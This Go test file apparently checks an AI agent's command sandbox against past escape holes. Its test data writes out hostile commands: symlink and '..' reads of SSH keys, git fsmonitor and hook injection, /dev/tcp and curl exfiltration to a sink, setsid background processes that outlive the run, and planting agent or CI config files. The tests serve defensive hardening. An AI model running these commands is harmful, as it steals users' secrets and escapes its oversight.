package canary_test

import (
	"os"
	"strings"
	"testing"

	"github.com/agentls/agentls/internal/canary"
)

// Each test here is a hole that a table of harmless commands had (issue 11). What
// must hold is the same with each wall, and without one.

// private is what a file outside the workspace holds.
const private = "PRIVATE-TEXT-OF-SOMEBODY"

// home is a person's home with secrets, and a workspace with links there.
func home(more ...string) map[string]string {
	files := map[string]string{
		"home/.ssh/id_rsa": private, "home/notes.txt": private, "home/.bashrc": "# mine\n",
		"work/a.txt": "one\n", "work/d/ln": "-> $BASE/home/.ssh",
	}
	for i := 0; i < len(more); i += 2 {
		files[more[i]] = more[i+1]
	}
	return files
}

// TestSEC54ALinkAndTwoDots: a path is what the kernel walks, not what its text
// looks like when it is cleaned.
func TestSEC54ALinkAndTwoDots(t *testing.T) {
	for name, call := range map[string]canary.Call{
		"cat":                    canary.Shell("cat d/ln/../notes.txt"),
		"grep in a folder":       canary.Shell("grep -r PRIVATE d/ln/.."),
		"cd":                     canary.Shell("cd -P d/ln/.. && cat notes.txt"),
		"cat that may write":     canary.Command("write", "cat d/ln/../notes.txt"),
		"cat in another folder":  {Tool: "bash", Args: canary.Args{"command": "cat notes.txt", "directory": "d/ln/.."}},
		"read_file":              {Tool: "read_file", Args: canary.Args{"file_path": "d/ln/../notes.txt"}},
		"grep as a tool":         {Tool: "grep", Args: canary.Args{"pattern": "PRIVATE", "dir_path": "d/ln/.."}},
		"grep as a tool, a file": {Tool: "grep", Args: canary.Args{"pattern": "PRIVATE", "dir_path": "d/ln/../notes.txt"}},
	} {
		_, refused := call.Args["directory"] // a folder outside is none to run in
		canary.HoldBehind(t, canary.Case{Name: name, Files: home(), Calls: []canary.Call{call}, Leak: private, Refused: refused})
	}
	for name, call := range map[string]canary.Call{
		"cp":                 canary.Command("write", "cp a.txt d/ln/../.bashrc"),
		"a redirection":      canary.Command("write", "echo x >> d/ln/../.bashrc"),
		"cp that only reads": canary.Shell("cp a.txt d/ln/../.bashrc"),
		"write_file":         {Tool: "write_file", Args: canary.Args{"file_path": "d/ln/../.bash_login", "content": "x"}},
	} {
		canary.HoldBehind(t, canary.Case{
			Name: name, Files: home(), Calls: []canary.Call{call}, Canary: []string{"home/.bashrc", "home/.bash_login"},
		})
	}
}

// tree is a program that does what the flags of tree do that were overlooked: it
// writes what it prints to a file, and it follows links.
const tree = `#!/bin/sh
case "$1" in
-l) exec find -L . ;;
esac
for last; do :; done
find . > "$last"
`

// withTree is the settings of a person whose own programs lie in $BASE/bin.
const withTree = `{"tools": {"sandbox": {"read": ["$BASE/bin"]}}}`

// TestSEC37FlagsThatWereOverlooked: what a program's flags do is held by the wall.
func TestSEC37FlagsThatWereOverlooked(t *testing.T) {
	path := []string{"PATH=$BASE/bin:" + os.Getenv("PATH")}
	for _, flags := range []string{"-Io X", "-Lo 1", "-Piso X", "-LR 1"} {
		canary.Hold(t, canary.Case{
			Name: "tree " + flags, Files: home("bin/tree", tree), Settings: withTree, Env: path,
			Calls: []canary.Call{canary.Shell("tree " + flags + " OUT")}, Canary: []string{"work/OUT"},
		})
	}
	canary.Hold(t, canary.Case{
		Name: "tree -l", Files: home("bin/tree", tree, "home/.ssh/A-PRIVATE-NAME", ""), Settings: withTree, Env: path,
		Calls: []canary.Call{canary.Shell("tree -l")}, Leak: "A-PRIVATE-NAME",
	})
	for name, command := range map[string]string{
		"sort -o": "sort -o OUT a.txt", "find -fprint": "find . -fprint OUT", "sed w": "sed -n 'w OUT' a.txt", "git diff --output": "git diff --no-index --output=OUT a.txt d",
	} {
		canary.HoldBehind(t, canary.Case{Name: name, Files: home(), Calls: []canary.Call{canary.Shell(command)}, Canary: []string{"work/OUT"}})
	}
	for name, command := range map[string]string{
		"diff of folders": "diff -r p q", "diff of a file and a folder": "diff key p", "ls": "ls -LR .", "find": "find -L . -type f -exec cat {} +",
	} {
		canary.HoldBehind(t, canary.Case{
			Name: name, Calls: []canary.Call{canary.Shell(command)}, Leak: "PRIVATE",
			Files: home("work/p/key", "-> $BASE/home/.ssh/id_rsa", "work/q/key", "another\n", "work/key", "a third\n", "home/.ssh/PRIVATE", ""),
		})
	}
}

// repository makes a git repository of the workspace, with a commit.
var repository = []string{
	"git init -q -b main", "git add -A", "git -c user.name=n -c user.email=n@example.com commit -q -m first",
}

// TestSEC49WhatGitRuns: a filter of .gitattributes, an fsmonitor or a hook that a
// command sets up runs neither now nor when git is called later, by a command or
// by the daemon for itself.
func TestSEC49WhatGitRuns(t *testing.T) {
	evil := `printf '[core]\n\tfsmonitor = touch $BASE/fired\n[filter "x"]\n\tclean = touch $BASE/fired\n\tprocess = touch $BASE/fired\n' >> .git/config; ` +
		`echo '* filter=x' > .gitattributes; touch a.txt; git status`
	for name, calls := range map[string][]canary.Call{
		"a filter":            {canary.Command("write", evil), canary.Shell("git status")},
		"a hook":              {canary.Command("write", "printf '#!/bin/sh\ntouch $BASE/fired\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit")},
		".git moved away":     {canary.Command("write", "mv .git g && mkdir .git && cp -r g/* .git/ && "+evil), canary.Shell("git status")},
		"git config":          {canary.Command("write", "git config core.fsmonitor 'touch $BASE/fired'"), canary.Shell("git status")},
		"info of attributes":  {canary.Command("write", "mkdir -p .git/info; echo '* filter=x' > .git/info/attributes")},
		"a file through tree": {canary.Command("write", "find . -fprint .git/config")},
	} {
		canary.HoldBehind(t, canary.Case{
			Name: name, Files: home(), Setup: repository, Calls: calls,
			Canary: []string{"fired", "work/.git/config", "work/.git/hooks/pre-commit", "work/.git/info/attributes"},
		})
	}
	canary.HoldBehind(t, canary.Case{
		Name: "the project's own filter", Files: home("work/.gitattributes", "* filter=x\n"),
		Setup: append(repository, `git config filter.x.clean "touch $BASE/fired; cat"`, `git config core.fsmonitor "touch $BASE/fired"`),
		Calls: []canary.Call{canary.Command("write", "echo two >> a.txt"), canary.Shell("git status")}, Canary: []string{"fired"},
	})
}

// TestSEC50OtherPlacesOfGit: core.worktree, commondir and alternates lead git out
// of the workspace.
func TestSEC50OtherPlacesOfGit(t *testing.T) {
	outside := []string{
		"git init -q -b main $BASE/outside", "git -C $BASE/outside add -A",
		"git -C $BASE/outside -c user.name=n -c user.email=n@example.com commit -q -m second",
	}
	files := home("outside/secret.txt", private+"\n", "outside/a.txt", private+"\n")
	for name, c := range map[string]struct {
		setup   []string
		command string
	}{
		"core.worktree": {[]string{"git config core.worktree $BASE/outside"}, "git diff"},
		"commondir":     {[]string{"echo $BASE/outside/.git > .git/commondir"}, "git show HEAD:secret.txt; git log -p"},
		"alternates": {
			[]string{"echo $BASE/outside/.git/objects > .git/objects/info/alternates", "cp $BASE/outside/.git/refs/heads/main .git/refs/heads/x"},
			"git show x:secret.txt; git log -p x",
		},
		"a bare repository in a folder": {
			[]string{"cp -r .git sub", "git -C sub --git-dir=. config core.worktree $BASE/outside"}, "cd sub && git diff",
		},
	} {
		canary.HoldBehind(t, canary.Case{
			Name: name, Files: files, Setup: append(append(append([]string(nil), repository...), outside...), c.setup...),
			Calls: []canary.Call{canary.Shell(c.command), canary.Command("write", c.command)}, Leak: private,
		})
	}
}

// TestSEC33DeniedByLength: a rule that denies a command is not skipped because the
// command is long or deep.
func TestSEC33DeniedByLength(t *testing.T) {
	for name, command := range map[string]string{
		"300 assignments":   strings.Repeat("A=1 ", 300) + "mkdir made",
		"4,200 statements":  "sh -c '" + strings.Repeat("true;", 4200) + "mkdir made'",
		"60 brackets":       strings.Repeat("( ", 60) + "mkdir made" + strings.Repeat(" )", 60),
		"10,000 blanks":     strings.Repeat(" ", 10_000) + "mkdir made",
		"no command at all": "mkdir made; )",
		"a wrapper":         "env -i nice timeout 3 mkdir made",
	} {
		if name == "no command at all" {
			command = "mkdir made\n" + strings.Repeat("echo x; ", 300)
		}
		canary.HoldBehind(t, canary.Case{
			Name: name, Settings: `{"tools": {"exclude": ["bash(mkdir)"]}}`, Refused: true,
			Calls: []canary.Call{canary.Command("write", command)}, Canary: []string{"work/made"},
		})
	}
}

// TestSEC55AFileThatFlips: a file that becomes a link while a command runs leads
// nowhere.
func TestSEC55AFileThatFlips(t *testing.T) {
	flip := func(w *canary.World, done <-chan struct{}) {
		for i := 0; ; i++ {
			select {
			case <-done:
				return
			default:
			}
			next := w.Path("next")
			if i%2 == 0 {
				_ = os.Symlink(w.Path("home/.ssh/id_rsa"), next) // the next turn does it
			} else {
				_ = os.WriteFile(next, []byte("ordinary\n"), 0o644)
			}
			_ = os.Rename(next, w.Path("work/flip"))
		}
	}
	loop := "for i in $(seq 200); do cat flip; done 2>/dev/null | sort -u"
	for name, call := range map[string]canary.Call{"only reads": canary.Shell(loop), "may write": canary.Command("write", loop)} {
		canary.HoldBehind(t, canary.Case{
			Name: name, Files: home("work/flip", "ordinary\n"), Meanwhile: flip, Calls: []canary.Call{call}, Leak: private,
		})
	}
}

// TestSEC60DeniedPathsAreDeniedToCommands: what a rule denies to the file tools is
// not read by a command either.
func TestSEC60DeniedPathsAreDeniedToCommands(t *testing.T) {
	files := home("work/secrets/plan.txt", "A-TEXT-THAT-A-RULE-DENIES\n", "work/sub/l", "-> ../secrets")
	for _, rule := range []string{"read_file(secrets/**)", "read_file(secrets/)", "read_file(secrets)", "read_file(secrets/*)"} {
		for _, call := range []canary.Call{
			canary.Shell("grep -rh TEXT .; cat s*/plan.txt */l/*"),
			canary.Command("write", "mv s[e]crets s2; cp -r s[e]crets s2 copy; cat s2/* copy/*; ln s[e]crets/plan.txt h && cat h"),
			{Tool: "read_file", Args: canary.Args{"file_path": "secrets/plan.txt"}},
		} {
			name := rule + " " + call.Tool
			if command, ok := call.Args["access"].(string); ok {
				name += " " + command
			}
			canary.HoldBehind(t, canary.Case{
				Name: name, Files: files, Settings: `{"tools": {"exclude": ["` + rule + `"]}}`, Calls: []canary.Call{call}, Leak: "A-TEXT-THAT-A-RULE-DENIES",
			})
		}
	}
}

// TestSEC19NothingNewIsLeftThatRuns: a protected place that was not there is not
// there after a command, whoever made it.
func TestSEC19NothingNewIsLeftThatRuns(t *testing.T) {
	for name, command := range map[string]string{
		"settings":        "mkdir -p .gemini && echo '{}' > .gemini/settings.json",
		"an agent":        "mkdir -p .gemini/agents && echo x > .gemini/agents/a.md",
		"tasks":           "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
		"moved there":     "mkdir -p x/agents && echo x > x/agents/a.md && mv x .gemini",
		"in a sub-folder": "mkdir -p sub/.vscode && echo '{}' > sub/.vscode/tasks.json",
		"a link":          "mkdir real && echo x > real/settings.json && ln -s real .gemini",
		"by a background": "(mkdir -p .gemini; echo '{}' > .gemini/settings.json) & wait",
		"CI":              "mkdir -p .github/workflows && echo x > .github/workflows/x.yml",
		"an .envrc":       "echo x > .envrc",
		"another case":    "mkdir -p .GEMINI && echo '{}' > .GEMINI/settings.json",
	} {
		canary.HoldBehind(t, canary.Case{
			Name: name, Files: home(), Calls: []canary.Call{canary.Command("write", command)},
			Canary: []string{"work/.gemini", "work/.vscode", "work/sub/.vscode", "work/.github/workflows", "work/.envrc", "work/.GEMINI"},
		})
	}
}

// TestSEC108NothingGetsOut: a command without access to the network reaches
// nobody, by no kind of socket.
func TestSEC108NothingGetsOut(t *testing.T) {
	for name, command := range map[string]string{
		"the shell": "echo x > /dev/tcp/127.0.0.1/$PORT", "curl": "curl -s -m 2 http://$SINK/", "perl": `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("$SINK")'`,
	} {
		for _, access := range []string{"read", "write"} {
			canary.HoldBehind(t, canary.Case{Name: name + ", " + access, Calls: []canary.Call{canary.Command(access, command)}})
		}
	}
}

// TestSEC43NothingOutlivesItsRun: what a command leaves behind does nothing after
// the run, and cannot have others do it.
func TestSEC43NothingOutlivesItsRun(t *testing.T) {
	const wait = "for i in $(seq 50); do test -e $BASE/late && break; sleep 0.1; done" // a busy machine takes its time
	const began = "; until test -e began; do sleep 0.02; done"                         // what has not left its group yet ends with the command
	for name, command := range map[string]string{
		"nohup":  "nohup sh -c 'touch began; sleep 0.5; touch $BASE/late' >/dev/null 2>&1 & true" + began,
		"setsid": "setsid sh -c 'touch began; sleep 0.5; touch $BASE/late' >/dev/null 2>&1 & disown" + began,
		"twice":  "(setsid sh -c '(touch began; sleep 0.5; touch $BASE/late) &' >/dev/null 2>&1 &)" + began,
	} {
		canary.HoldBehind(t, canary.Case{
			Name: name, Calls: []canary.Call{canary.Command("write", command), canary.Command("read", wait)}, Canary: []string{"late"},
		})
	}
}

// TestSEC22AnAddressInASchema: an edit that has an editor ask an address with a
// secret in it is no ordinary one.
func TestSEC22AnAddressInASchema(t *testing.T) {
	for name, call := range map[string]canary.Call{
		"a new file": {Tool: "write_file", Args: canary.Args{
			"file_path": "x.json", "content": `{"$schema": "https://example.invalid/?d=secret"}`,
		}},
		"YAML": {Tool: "write_file", Args: canary.Args{
			"file_path": "x.yaml", "content": "# yaml-language-server: $schema=https://example.invalid/?d=secret\na: 1\n",
		}},
		"$ref": {Tool: "write_file", Args: canary.Args{"file_path": "x.json", "content": `{"a": {"$ref": "http://$SINK/?d=secret"}}`}},
	} {
		canary.Hold(t, canary.Case{
			Name: name, Args: []string{"--approve", "auto"}, Calls: []canary.Call{call}, Canary: []string{"work/x.json", "work/x.yaml"},
		})
	}
}

// TestSEC38WhatCommandsPrint: a command that runs without asking tells neither what
// HEAD has of a credential file, nor a password in the address of a remote.
func TestSEC38WhatCommandsPrint(t *testing.T) {
	files := home("work/.env", "API_TOKEN=committed-5ecret-1\n", "work/sub/.npmrc", "//registry.npmjs.org/:_authToken=nested-5ecret-2\n")
	tracked := append(repository[:len(repository):len(repository)], "git remote add origin https://ann:remote-5ecret-3@127.0.0.1/x.git")
	for command, leak := range map[string]string{
		"git diff": "committed-5ecret-1", "git log -p": "nested-5ecret-2", "git show HEAD:.env": "committed-5ecret-1",
		"git grep ecret HEAD": "nested-5ecret-2", "git remote -v": "remote-5ecret-3", "cat .git/config": "remote-5ecret-3",
	} {
		c := canary.Case{Name: command, Files: files, Setup: tracked, Calls: []canary.Call{canary.Shell(command)}, Leak: leak}
		if command == "git diff" { // behind the wall the file is empty
			c.Setup = append(c.Setup, "rm .env")
		}
		canary.HoldBehind(t, c)
	}
}
